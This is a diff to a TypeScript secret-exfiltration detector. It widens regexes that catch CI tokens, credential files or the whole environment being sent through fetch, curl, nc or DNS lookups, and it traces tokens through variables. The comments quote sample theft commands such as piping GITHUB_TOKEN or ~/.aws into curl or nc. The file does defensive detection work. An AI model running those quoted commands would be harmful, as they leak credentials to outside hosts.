@@ -44,32 +44,37 @@ const SEND_WORD = String.raw`(?<!\b(?:child|process|worker|subprocess|proc|port|
 const SEND = String.raw`(?:\b(?:requests|httpx|axios|session|client)\.\w+|\bhttps?\.(?:get|request)|\b(?:fetch|urlopen|post|put|request)|${SEND_WORD})\s*\(`;
 /**
  * The job's credential added to a URL the test is given (`urlopen(url + os.environ['GITHUB_TOKEN'])`, in a template:
- * `` fetch(`${base}?t=${process.env.GITHUB_TOKEN}`) ``), or printed into a pipe to a program that sends (`echo "$GITHUB_TOKEN" | curl -d @- …`, `printenv NPM_TOKEN | nc h 443`;
- * session 66). (In FORMS, session 66 also reads a credential file or the auth header in a substitution on curl's or
+ * `` fetch(`${base}?t=${process.env.GITHUB_TOKEN}`) ``; session 67: in an f-string, a `'…'.join([…])`, `%` or `.format`, a `new URL(…)`, and axios' body
+ * given as its second argument; review 67: the URL a name holding the token, `u2 = u + t`, then `requests.get(u2)`), or printed into a pipe to a
+ * program that sends (`echo "$GITHUB_TOKEN" | curl -d @- …`, `printenv NPM_TOKEN | nc h 443`; session 66) or given it in
+ * a here-string (`curl -d @- … <<< "$GITHUB_TOKEN"`; session 67). (In FORMS, session 66 also reads a credential file or the auth header in a substitution on curl's or
  * wget's line, `curl -d "$(cat ~/.git-credentials)"`, and a credential directory piped, `tar cz ~/.aws | curl -T - …`.) A token added after a string (`'token ' + os.environ[…]`, a header's value) is not read here.
  */
-const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:[\w$.]+\s*\+\s*|\x60[^\x60\n]{0,200}?)${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*${SENDS_STDIN}`;
+const JOB_CREDENTIAL_SENT = String.raw`${SEND}\s*(?:new\s+URL\s*\(\s*)?(?:[\w$.]+\s*\+\s*(?:["'\x60][^"'\x60\n]{0,100}["'\x60]\s*\+\s*)?|\x60[^\x60\n]{0,200}?|[fF](?:'[^'\n]{0,200}?|"[^"\n]{0,200}?)\{\s*|["'][^"'\n]{0,40}["']\s*\.\s*join\s*\(\s*[[(][^\])\n]{0,200}?|["'][^"'\n]{0,200}["']\s*(?:%\s*\(?|\.\s*format\s*\([^)\n]{0,100}?))${variableRead(JOB_CREDENTIAL)}|\b(?:fetch|urlopen|(?:requests|httpx|axios)\s*\.\s*(?:get|post|put|patch|delete|head))\s*\(\s*${variableRead(JOB_CREDENTIAL)}|\b(?:axios|got|ky)\.(?:post|put|patch)\s*\([^,\n]{1,200},(?:(?!headers\b)[^\n)]){0,150}?${variableRead(JOB_CREDENTIAL)}|\b(?:echo|printf|printenv)\b[^\n|;&]{0,100}?\b${JOB_CREDENTIAL}\b[^\n;&]{0,100}?\|\s*${SENDS_STDIN}|\b${SENDS_STDIN}[^\n|;&]{0,200}?<<<\s*["']?${variableRead(JOB_CREDENTIAL)}`;
 /**
  * A secret-named variable in a DNS lookup (`dns.lookup(hex(process.env.NPM_TOKEN) + '.h')`, `socket.gethostbyname`,
  * `getaddrinfo`, `dns.promises.resolveTxt`, `dig`/`nslookup`/`host "$TOKEN.h"`): the name asked for reaches the resolvers of the domain it ends in
- * (session 66). A host read from the environment (`dns.lookup(process.env.DB_HOST)`) is no secret.
+ * (session 66); so does a connection's (`socket.create_connection`), `ping`'s, `getent hosts`' and Ruby's `Resolv.getaddress` (session 67). A host read from the environment (`dns.lookup(process.env.DB_HOST)`) is no secret.
  */
-const SECRET_LOOKED_UP = String.raw`(?:\b(?:(?:dns|resolver)(?:\.\w+)+|lookup|gethostbyname\w*|getaddrinfo)\s*\(|\b(?:dig|nslookup|host)\s)[^\n|;&]{0,150}?${variableRead(SECRET_NAME)}`;
+const SECRET_LOOKED_UP = String.raw`(?:\b(?:(?:dns|resolver)(?:\.\w+)+|lookup|gethostbyname\w*|getaddrinfo|create_connection|getaddress(?:es)?)\s*\(|\b(?:dig|nslookup|host|ping|getent\s+\w*hosts)\s)[^\n|;&]{0,150}?${variableRead(SECRET_NAME)}`;
 const FORMS = new RegExp(
   // A credential file, or the checkout's auth header, read and sent on one line; a secret in a literal URL to another
   // host, inside it (`?t=${…}`, `$NPM_TOKEN`, `{os.environ[…]}`) or added to it; the job's credential in a request's
   // query or body to any host, set on a URL's query (`u.searchParams.set('t', …)`; session 66), or on a socket (the reach
   // stops at a closing bracket and at a `headers` key: a header after the body is not it; review 65, session 66's
-  // `https.get({ path: '/user', headers: { Authorization: … } })`), or in a shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65).
-  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b|(?:~|\$\{?HOME\}?)\/\.(?:aws|ssh|docker|kube|gnupg)\b)[^\n|]{0,200}\|\s*${SENDS_STDIN}|\b(?:curl|wget)\b[^\n]{0,200}?\$\([^)\n]{0,100}?(?:${CREDENTIAL_FILE}|\bextraheader\b)|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query|path)\s*[=:]|${SEND_WORD}\s*\(|\bsearchParams\.(?:set|append)\()(?:(?!headers\b)[^\n)}]){0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?${variableRead(JOB_CREDENTIAL)}|${JOB_CREDENTIAL_SENT}|${SECRET_LOOKED_UP}`,
+  // `https.get({ path: '/user', headers: { Authorization: … } })`; `new URLSearchParams({ t: … })`, session 67), or in a
+  // shell request's body (`curl -d "$GITHUB_TOKEN"`, `wget --post-data`; review 65; `-d "t=$(printenv GITHUB_TOKEN)"`,
+  // session 67). Session 67: a credential file in backticks on curl's line, a credential directory archived from `-C ~`.
+  String.raw`(?:(?:@|-T\s*|--upload-file\s+)[^\s"'\x60]{0,40}|${SEND}[^\n]{0,200}?)${CREDENTIAL_FILE}|(?:${CREDENTIAL_FILE}|\bextraheader\b|(?:~|\$\{?HOME\}?)\/\.(?:aws|ssh|docker|kube|gnupg)\b|\s-C\s*(?:~|\$\{?HOME\}?)\/?\s[^\n|]{0,100}?(?<![\w.])\.(?:aws|ssh|docker|kube|gnupg)\b)[^\n|]{0,200}\|\s*${SENDS_STDIN}|\b(?:curl|wget)\b[^\n]{0,200}?(?:\$\(|\x60)[^)\x60\n]{0,100}?(?:${CREDENTIAL_FILE}|\bextraheader\b)|\b(?:http|ws)s?:\/\/${ELSEWHERE}[^\s"'\x60{}]{0,300}(?:\{\s*|["'\x60]\s*\+\s*|(?=\$))${variableRead(SECRET_NAME)}|(?:${SEND}[^\n]{0,200}?\b(?:params|data|json|body|files|content|qs?|query|path)\s*[=:]|${SEND_WORD}\s*\(|\bsearchParams\.(?:set|append)\(|\bURLSearchParams\s*\()(?:(?!headers\b)[^\n)}]){0,150}?${variableRead(JOB_CREDENTIAL)}| --?(?:d|F|(?:post-)?data\S*)[ =]?\S{0,60}?(?:${variableRead(JOB_CREDENTIAL)}|printenv\s+${JOB_CREDENTIAL}\b)|${JOB_CREDENTIAL_SENT}|${SECRET_LOOKED_UP}`,
   'i',
 );
 
 /**
  * The whole environment as an expression (`process.env`, `os.environ`, a copy of it), not a variable read from it, or
- * the output of `env`/`printenv` (`subprocess.check_output(['env'])`; session 66).
+ * the output of `env`/`printenv` (`subprocess.check_output(['env'])`; session 66), by its path too when given nothing else
+ * (`['/usr/bin/env']`; session 67: `['/usr/bin/env', 'python3', …]` runs a program).
  */
-const WHOLE_ENVIRONMENT = String.raw`(?:(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)|\b(?:check_output|getoutput|popen|execSync|run)\(\[?["'\x60](?:print)?env["'\x60])`;
+const WHOLE_ENVIRONMENT = String.raw`(?:(?:process\.env|os\.environ)\b(?!\s*\[|\s*\.\s*(?!copy\b|items\b)\w)|\b(?:check_output|getoutput|popen|execSync|run)\(\[?["'\x60](?:(?:print)?env["'\x60]|\/[\w/]*\/(?:print)?env["'\x60]\s*[\])]))`;
 /**
  * The whole environment given to a call that sends it (`fetch(u, { body: JSON.stringify(process.env) })`,
  * `requests.post(u, json=dict(os.environ))`), or piped to one (`env | curl -d @- …`; attack 64): `dangerous-code.ts`'s
@@ -82,7 +87,7 @@ const ENVIRONMENT_SENT_RE = new RegExp(ENVIRONMENT_SENT, 'i');
  * or a JavaScript name's, is left out of it and of its mentions alike), or group 2 an object rest's (`const { CI, ...rest }
  * = process.env`; session 66).
  */
-const CARRIER = new RegExp(String.raw`(?:(?<![\w.])(\w+)|\.\.\.(\w+)[ \t]*\})[ \t]*=(?![=>])[^\n;]{0,300}?(?:${WHOLE_ENVIRONMENT}|${CREDENTIAL_FILE})`, 'gi');
+const CARRIER = new RegExp(String.raw`(?:(?<![\w.])(\w+)|\.\.\.(\w+)\s*\})[ \t]*=(?![=>])[^\n;]{0,300}?(?:${WHOLE_ENVIRONMENT}|${CREDENTIAL_FILE})`, 'gi');
 /** At most this many carriers are followed (bounds the pattern made of their names); past them, the text is refused. */
 const MAX_CARRIERS = 16;
 
@@ -95,6 +100,71 @@ function carriedAndSent(text: string): boolean {
   if (carriers.length > MAX_CARRIERS) return true;
   return carriers.length > 0 && ENVIRONMENT_SENT_RE.test(text.replace(new RegExp(String.raw`(?<![\w.'"])(?:${carriers.join('|')})\b(?!\s*(?:\.\s*\w|\[|=[^=]))`, 'g'), 'os.environ'));
 }
+
+/**
+ * A name given one of the job's credentials (`t = os.environ['GITHUB_TOKEN']`, `const t: string = process.env.NPM_TOKEN`),
+ * group 1, or the names destructured from the environment (`const { GITHUB_TOKEN: t, CI } = process.env`), group 2
+ * (session 67: a token read into a variable first and then sent).
+ */
+const CREDENTIAL_CARRIER = new RegExp(String.raw`(?<![\w.$])([A-Za-z_$][\w$]*)(?:\s*:[^=\n]{1,60}?)?[ \t]*=(?![=>])[^\n;=]{0,60}?${variableRead(JOB_CREDENTIAL)}|\{([^{}=]{1,300})\}\s*=\s*process\.env\b`, 'gi');
+const JOB_CREDENTIAL_NAME = new RegExp(`^${JOB_CREDENTIAL}$`, 'i');
+
+/**
+ * `text` with each mention of a name that holds one of the job's credentials ({@link CREDENTIAL_CARRIER}) written as the
+ * read it holds, so that the forms read it where it is sent (`requests.post(u, data=t)`, `searchParams.set('t', t)`, `new
+ * URLSearchParams({ t })`) as they read the token itself, and pass it where they pass the token (a header). Not its
+ * assignment, a key (`{ t: 1 }`), nor a member (`t.length`). Past {@link MAX_CARRIERS} names, null: refused.
+ */
+function credentialCarriersRead(text: string): string | null {
+  const names = new Set<string>();
+  for (const match of text.matchAll(CREDENTIAL_CARRIER)) {
+    if (match[1] !== undefined) names.add(match[1]);
+    for (const entry of match[2]?.split(',') ?? []) {
+      const [, key, alias] = /^\s*([\w$]+)\s*(?::\s*([\w$]+))?\s*$/.exec(entry) ?? [];
+      if (key && JOB_CREDENTIAL_NAME.test(key)) names.add(alias ?? key);
+    }
+  }
+  if (names.size === 0) return text;
+  // Handed on to a second name (`s = t`, `u2 = u + t`, `body = JSON.stringify({ t })`; review 67, session 67's open row):
+  // that name holds it too, round by round; not a header's value (`headers = {'Authorization': f'token {t}'}`), which passes.
+  // Read in the text's order, a chain written in order is followed in one round; a name still growing after the last
+  // round, or past MAX_CARRIERS names, refuses the text (fails closed).
+  let grown = true;
+  for (let round = 0; grown && round < CARRIER_ROUNDS && names.size <= MAX_CARRIERS; round += 1) {
+    grown = false;
+    let held = mentionOf(names);
+    for (const copy of text.matchAll(CARRIER_COPIED)) {
+      if (names.has(copy[1]!) || NOT_THE_TEXT.test(copy[2]!) || !held.test(copy[2]!)) continue;
+      names.add(copy[1]!);
+      grown = true;
+      if (names.size > MAX_CARRIERS) return null;
+      held = mentionOf(names);
+    }
+  }
+  if (grown || names.size > MAX_CARRIERS) return null;
+  // A shorthand key keeps its key (`{ body }`, `{ t }`; not an f-string's `{t}`).
+  return text.replace(
+    mentionOf(names, 'g'),
+    (name, at: number) => (/(?:(?<![$#])\{[ \t]|,)[ \t]*$/.test(text.slice(Math.max(0, at - 9), at)) && /^(?:[ \t]*,|[ \t]+\})/.test(text.slice(at + name.length, at + name.length + 9)) ? `${name}: ` : '') + 'process.env.GITHUB_TOKEN',
+  );
+}
+
+/**
+ * A mention of one of `names`: not its assignment, a key, an index nor a member, but a copy of its text (`t.encode()`,
+ * `t.trim()`, `t[:]`; review 67).
+ */
+function mentionOf(names: ReadonlySet<string>, flags = ''): RegExp {
+  return new RegExp(String.raw`(?<![\w$.'"])(?:${[...names].join('|').replace(/\$/g, '\\$')})(?![\w$]|\s*(?:\.\s*(?!(?:(?:en|de)code|[lr]?strip|trim\w*|toString)\s*\()\w|\[(?!\s*:\s*\])|=[^=]|:))`, flags);
+}
+/** How many times the copies are read for names handed the token ({@link credentialCarriersRead}). */
+const CARRIER_ROUNDS = 4;
+/** A name given a value on one line (group 2), `const`/`let`/`var` or a type before it or not. */
+const CARRIER_COPIED = /(?<![\w$.])([\w$]+)(?:[ \t]*:[^=\n]{1,60}?)?[ \t]*=(?![=>])([^\n;]{1,200})/g;
+/**
+ * A header's or a client's value (a token there passes, as it does written in place; read in the value, not the name an
+ * attacker picks), or whether a token is set or how long it is (`bool(t)`, `t is None`, `!!t`, `t.length`): no copy of its text to send.
+ */
+const NOT_THE_TEXT = /\b(?:auth\w*|headers?|bool\w*|len)\b|\bis\s+(?:not\s+)?None|[!=]==?|!!|\.length\b/i;
 
 /**
  * A test client's `send` on an app in the test's own process (supertest's `request(app).post('/hook').send({…})`), group
@@ -128,7 +198,11 @@ export function secretsSent(written: string): boolean {
   // joined to the next (session 66: `requests.post(\n    u,\n    json=dict(os.environ),\n)`).
   // A path built in pieces read as one (`Path.home() / '.aws' / 'credentials'`, `path.join(home, '.aws', 'credentials')`):
   // any two strings one `/` or `,` apart are read joined by `/`.
-  const joined = written.replace(/([([{,])\s*\n\s*/g, '$1 ').replace(/["']\s*[/,]\s*["']/g, '/');
-  const text = appSendsRenamed(joined);
-  return FORMS.test(text) || carriedAndSent(text);
+  // A value on the line after its `=` is read joined to it too (session 67: `data=\n  os.environ[…]`).
+  // A line that starts with a member's `.` goes on the line before, as JavaScript reads a chain (session 67: supertest's
+  // `request(app)` then `.post(…)` and `.send(…)` one a line).
+  const joined = written.replace(/([([{,=])\s*\n\s*|\n[ \t]*(?=\.[ \t]*[A-Za-z_$])/g, '$1 ').replace(/["']\s*[/,]\s*["']/g, '/');
+  const text = credentialCarriersRead(appSendsRenamed(joined));
+  // The whole environment sent in a call spread over lines (session 67): `dangerous-code.ts` reads it on one line only.
+  return text === null || FORMS.test(text) || ENVIRONMENT_SENT_RE.test(text) || carriedAndSent(text);
 }
